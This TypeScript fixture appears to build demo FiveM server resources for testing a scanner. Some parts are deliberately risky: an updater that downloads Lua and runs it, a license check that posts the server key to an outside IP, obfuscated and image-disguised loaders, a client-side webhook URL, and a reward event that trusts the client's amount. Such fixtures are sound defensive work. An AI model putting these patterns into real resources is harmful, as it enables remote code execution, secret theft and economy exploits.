/** What an archive of the demo can contain besides its first files. `RESOURCE` in a text is the name of the resource. */
export type Part = { manifest?: string; files: Readonly<Record<string, string | Buffer>> }

const page = `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>RESOURCE</title>
    <link rel="stylesheet" href="style.css" />
  </head>
  <body hidden>
    <main><h1>RESOURCE</h1><ul id="entries"></ul><button id="close">Close</button></main>
    <script src="app.js"></script>
  </body>
</html>
`
const pageCode = `const list = document.querySelector('#entries')

window.addEventListener('message', ({ data }) => {
  if (data.action !== 'open') return
  list.replaceChildren(...Object.entries(data.state).map(([key, value]) => {
    const entry = document.createElement('li')
    entry.textContent = \`\${key}: \${value}\`
    return entry
  }))
  document.body.hidden = false
})

document.querySelector('#close').addEventListener('click', () => {
  document.body.hidden = true
  fetch('https://RESOURCE/close', { method: 'POST', body: '{}' })
})
`

export const parts = {
  esx: {
    manifest: "dependency 'es_extended'\nserver_script 'server/pay.lua'",
    files: {
      'server/pay.lua': `local ESX = exports['es_extended']:getSharedObject()

RegisterNetEvent('RESOURCE:pay', function(amount)
  local player = ESX.GetPlayerFromId(source)
  amount = math.floor(tonumber(amount) or 0)
  if not player or amount < 1 or player.getMoney() < amount then return end
  player.removeMoney(amount, 'RESOURCE')
end)
`,
    },
  },
  qbcore: {
    manifest: "dependency 'qb-core'\nserver_script 'server/items.lua'",
    files: {
      'server/items.lua': `local core = exports['qb-core']:GetCoreObject()

core.Functions.CreateUseableItem('RESOURCE', function(player)
  TriggerClientEvent('RESOURCE:open', player, { used = true })
end)
`,
    },
  },
  ox: {
    manifest: "shared_script '@ox_lib/init.lua'\nclient_script 'client/zones.lua'",
    files: {
      'client/zones.lua': `lib.zones.sphere({
  coords = vec3(441.2, -982.0, 30.7),
  radius = Config.distance,
  onEnter = function() lib.showTextUI('[E] Open') end,
  onExit = function() lib.hideTextUI() end,
})
`,
    },
  },
  database: {
    manifest: "server_scripts { '@oxmysql/lib/MySQL.lua', 'server/store.lua' }",
    files: {
      'server/store.lua': `function LoadEntries(owner)
  return MySQL.query.await('SELECT id, label FROM demo_entries WHERE owner = ?', { owner })
end

function AddEntry(owner, label)
  MySQL.insert('INSERT INTO demo_entries (owner, label) VALUES (?, ?)', { owner, label })
end
`,
      'install.sql': `CREATE TABLE IF NOT EXISTS demo_entries (
  id INT UNSIGNED AUTO_INCREMENT PRIMARY KEY,
  owner VARCHAR(60) NOT NULL,
  label VARCHAR(80) NOT NULL,
  INDEX (owner)
);
`,
    },
  },
  page: {
    manifest: "ui_page 'html/index.html'\nfiles { 'html/*' }",
    files: {
      'html/index.html': page,
      'html/app.js': pageCode,
      'html/style.css':
        'main {\n  width: 24rem;\n  margin: 10vh auto;\n  background: #181511;\n  color: #f5f0e6;\n}\n',
    },
  },
  javascript: {
    manifest: "server_script 'server/report.js'",
    files: {
      'server/report.js': `const entries = new Map()

onNet('RESOURCE:report', (text) => {
  entries.set(source, String(text).slice(0, 200))
})

RegisterCommand('reports', () => {
  for (const [player, text] of entries) console.log(\`\${GetPlayerName(player)}: \${text}\`)
}, true)
`,
    },
  },
  locales: {
    manifest: "files { 'locales/*.json' }",
    files: {
      'locales/en.json': '{\n  "open": "Open",\n  "closed": "Come back tomorrow"\n}\n',
      'locales/de.json': '{\n  "open": "Öffnen",\n  "closed": "Komm morgen wieder"\n}\n',
    },
  },
  weather: {
    manifest: "server_script 'server/weather.lua'",
    files: {
      'server/weather.lua': `local function readWeather()
  PerformHttpRequest('https://weather.example/v1/now?place=los-santos', function(status, body)
    local weather = status == 200 and json.decode(body)
    if weather then TriggerClientEvent('RESOURCE:weather', -1, weather.sky) end
  end)
end

CreateThread(function()
  while true do
    readWeather()
    Wait(10 * 60 * 1000)
  end
end)
`,
    },
  },
  console: {
    manifest: "server_script 'server/restart.lua'",
    files: {
      'server/restart.lua': `RegisterCommand('RESOURCE-restart', function(player)
  if player ~= 0 then return end
  SaveResourceFile(GetCurrentResourceName(), 'restarts.txt', os.date() .. '\\n', -1)
  ExecuteCommand('restart RESOURCE')
end, true)
`,
    },
  },
  handling: {
    manifest: "files { 'data/*.meta' }\ndata_file 'HANDLING_FILE' 'data/handling.meta'",
    files: {
      'data/handling.meta': `<?xml version="1.0" encoding="UTF-8"?>
<CHandlingDataMgr>
  <HandlingData>
    <Item type="CHandlingData">
      <handlingName>DUNE</handlingName>
      <fMass value="1450.0" />
    </Item>
  </HandlingData>
</CHandlingDataMgr>
`,
    },
  },
  pack: {
    files: {
      '../RESOURCE-props/fxmanifest.lua':
        "fx_version 'cerulean'\ngame 'gta5'\nthis_is_a_map 'yes'\nfiles { 'props.xml' }\n",
      '../RESOURCE-props/props.xml':
        '<props>\n  <prop model="prop_bench_01a" x="12.5" y="-3.0" z="71.2" />\n</props>\n',
      '../RESOURCE-lib/fxmanifest.lua': "fx_version 'cerulean'\ngame 'gta5'\nshared_script 'math.lua'\n",
      '../RESOURCE-lib/math.lua': 'function Round(value)\n  return math.floor(value + 0.5)\nend\n',
    },
  },
  webhook: {
    manifest: "client_script 'client/log.lua'",
    files: {
      'client/log.lua': `local webhook = 'https://discord.com/api/webhooks/100000000000000001/${'demoOnly'.repeat(8)}demo'

RegisterNetEvent('RESOURCE:log', function(text)
  SendNUIMessage({ action = 'log', url = webhook, text = text })
end)
`,
    },
  },
  updater: {
    manifest: "server_script 'server/update.lua'",
    files: {
      'server/update.lua': `-- Gets the newest version, without an update by hand.
PerformHttpRequest('https://updates.example/RESOURCE/latest.lua', function(status, body)
  if status == 200 then load(body)() end
end)
`,
    },
  },
  rewards: {
    manifest: "server_script 'server/rewards.lua'",
    files: {
      'server/rewards.lua': `local ESX = exports['es_extended']:getSharedObject()

RegisterNetEvent('RESOURCE:finish', function(reward)
  local player = ESX.GetPlayerFromId(source)
  if player then player.addMoney(reward, 'RESOURCE') end
end)
`,
    },
  },
  license: {
    manifest: "server_script 'server/license.lua'",
    files: {
      'server/license.lua': `local key = GetConvar('sv_licenseKey', '')
PerformHttpRequest('http://203.0.113.7/check', function(status)
  if status ~= 200 then os.exit() end
end, 'POST', key)
`,
    },
  },
  obfuscated: {
    manifest: "server_script 'server/core.lua'",
    files: {
      'server/core.lua': `local _0x1f = '${Buffer.from("print('This demo hides nothing but this line.')").reduce((text, byte) => `${text}\\x${byte.toString(16)}`, '')}'
local _0x2a = _G['\\x6c\\x6f\\x61\\x64']
_0x2a(_0x1f)()
`,
    },
  },
  disguised: {
    manifest: "server_script 'server/theme.lua'",
    files: {
      'server/theme.lua': "load(LoadResourceFile(GetCurrentResourceName(), 'html/theme.png'))()\n",
      'html/theme.png': "local text = 'This file is code, whatever its name says.'\nprint(text)\n",
    },
  },
  escrowed: {
    manifest: "escrow_ignore { 'config.lua' }\nserver_script 'server/closed.lua'",
    files: {
      '.fxap': 'FXAP\u0003demo',
      'server/closed.lua': Buffer.concat([Buffer.from('FXAP'), Buffer.alloc(600, 'demo')]),
    },
  },
} as const satisfies Record<string, Part>

export type PartName = keyof typeof parts

/** The newest scripts of the demo have these parts, the newest one the first. */
export const combinations: readonly (readonly PartName[])[] = [
  ['page', 'locales'],
  ['esx', 'database'],
  ['updater'],
  ['qbcore', 'page'],
  ['weather'],
  ['ox', 'locales'],
  ['webhook', 'page'],
  ['rewards', 'locales'],
  ['esx', 'page', 'database'],
  ['javascript'],
  ['obfuscated'],
  ['qbcore', 'database', 'locales'],
  ['console'],
  ['handling'],
  ['ox', 'page'],
  ['disguised'],
  ['weather', 'javascript'],
  ['escrowed'],
  ['esx', 'locales'],
  ['pack', 'database'],
  ['license'],
  ['page', 'javascript'],
  ['qbcore', 'console'],
  ['ox', 'database'],
  ['handling', 'locales'],
  ['esx', 'weather'],
  ['page', 'webhook'],
  ['pack', 'page'],
  ['qbcore', 'ox'],
  ['database', 'javascript'],
  ['escrowed', 'page'],
  ['esx', 'console'],
  ['weather', 'locales'],
  ['ox', 'esx'],
  ['handling', 'pack'],
  ['updater', 'esx', 'page'],
  ['qbcore', 'page', 'database'],
  ['javascript', 'locales'],
  ['console', 'database'],
  ['page'],
]
